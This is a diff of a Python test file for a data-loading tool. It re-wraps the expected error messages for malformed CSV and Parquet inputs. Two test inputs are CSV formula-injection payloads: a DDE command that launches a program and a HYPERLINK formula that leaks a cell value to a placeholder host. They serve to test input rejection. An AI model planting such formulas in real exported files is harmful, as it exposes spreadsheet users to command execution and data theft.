@@ -51,26 +51,22 @@ def problem(path: Path, content: str | bytes | None = None, **options: Any) -> s
         (
             "a b y\n1 2 3\n",
             "it has one column, 'a b y', and none 'y' for --target; are its cells parted by "
-            "another character? "
-            "Give it with --separator",
+            "another character? Give it with --separator",
         ),
         (
             "a,b,y\n1,2,3\n4,5\n",
             "data row 2 has 2 cells where 3 are expected (separated by ','); correct the row, or "
-            "give the separator "
-            "with --separator",
+            "give the separator with --separator",
         ),
         (
             "\n\na,b,y\n\n1,2,3\n4\n",
             "data row 2 has 1 cell where 3 are expected (separated by ','); correct the row, or "
-            "give the separator "
-            "with --separator",
+            "give the separator with --separator",
         ),
         (
             "a,y\n1,2,3\n4,5,6\n",
             "its first row has 2 cells and the rows beneath it have 3 (separated by commas); give "
-            "every column a name, or the "
-            "separator with --separator",
+            "every column a name, or the separator with --separator",
         ),
         (
             "name,b,y\nAnn,2,3\nBo,5,6\n",
@@ -85,8 +81,7 @@ def problem(path: Path, content: str | bytes | None = None, **options: Any) -> s
         (
             "a,n,c,y\n1,2,x,3\n5,oops,z,6\n",
             "column 'n' holds text, such as 'oops' in data row 2 (so do not hold numbers: 'c'); "
-            "choose columns of "
-            "numbers, such as --features 'a'",
+            "choose columns of numbers, such as --features 'a'",
         ),
         (
             "a,b,y\n1,=A1+B1,3\n4,\"=cmd|' /C calc'!A0\",6\n",
@@ -96,8 +91,7 @@ def problem(path: Path, content: str | bytes | None = None, **options: Any) -> s
         (
             "a,b,y\n1,2,3\n4,\"=HYPERLINK(\"\"http://example.org/?leak=\"\"&A1)\",6\n",
             "column 'b' holds text, such as '=HYPERLINK(\"http://example.org/?leak=\"&A...' in "
-            "data row 2; choose "
-            "columns of numbers, such as --features 'a'",
+            "data row 2; choose columns of numbers, such as --features 'a'",
         ),
         (
             'a,b,y\n1,"x\ny",3\n4,5,6\n',
@@ -107,14 +101,12 @@ def problem(path: Path, content: str | bytes | None = None, **options: Any) -> s
         (
             "a,b,y\n1,2020-01-31,3\n4,2021-01-31,6\n",
             "column 'b' holds values of type date32[day], such as '2020-01-31' in data row 1; "
-            "choose columns of numbers, such "
-            "as --features 'a'",
+            "choose columns of numbers, such as --features 'a'",
         ),
         (
             'a;b;y\n1.5;"2,5";3\n2.5;"2.5";6\n3.5;1.5;1\n',
             "column 'b' holds text, such as '2,5' in data row 1 (if ',' is its decimal sign, say "
-            "so with --decimal ','); "
-            "choose columns of numbers, such as --features 'a'",
+            "so with --decimal ','); choose columns of numbers, such as --features 'a'",
         ),
         (
             "a,b,y\n1,2,low\n4,5,high\n",
@@ -128,8 +120,7 @@ def problem(path: Path, content: str | bytes | None = None, **options: Any) -> s
         (
             "a,b,y\n1,2,3\n4,,6\n,5,\n",
             "3 values missing in 'a', 'b', 'y', the first in data row 2 of 'b'; fill them in, or "
-            "leave those rows "
-            "out with --missing drop",
+            "leave those rows out with --missing drop",
         ),
         (
             "a,b,y\n1,2,3\n4,inf,6\n",
@@ -158,8 +149,7 @@ def problem(path: Path, content: str | bytes | None = None, **options: Any) -> s
         (
             ",".join(f"c{k}" for k in range(12)) + "\n" + ",".join("1" * 12),
             "it has no column 'y' for --target; its columns are 'c0', 'c1', 'c2', 'c3', 'c4', "
-            "'c5', 'c6', 'c7', 'c8', "
-            "'c9' and 2 more",
+            "'c5', 'c6', 'c7', 'c8', 'c9' and 2 more",
         ),
         (
             "a,y,y\n1,2,3\n",
@@ -299,8 +289,7 @@ def test_what_is_wrong_with_a_parquet_file_is_said(tmp_path: Path) -> None:
     parquet.write_table(pa.table(columns), path)
     assert problem(path) == (
         "column 'l' holds values of type list<element: int64>, such as '[1]' in data row 1 (so do "
-        "not hold numbers: 't'); "
-        "choose columns of numbers with --features"
+        "not hold numbers: 't'); choose columns of numbers with --features"
     )
     twice = pa.Table.from_arrays([pa.array([1.0])] * 3, names=["a", "a", "y"])
     parquet.write_table(twice, path)
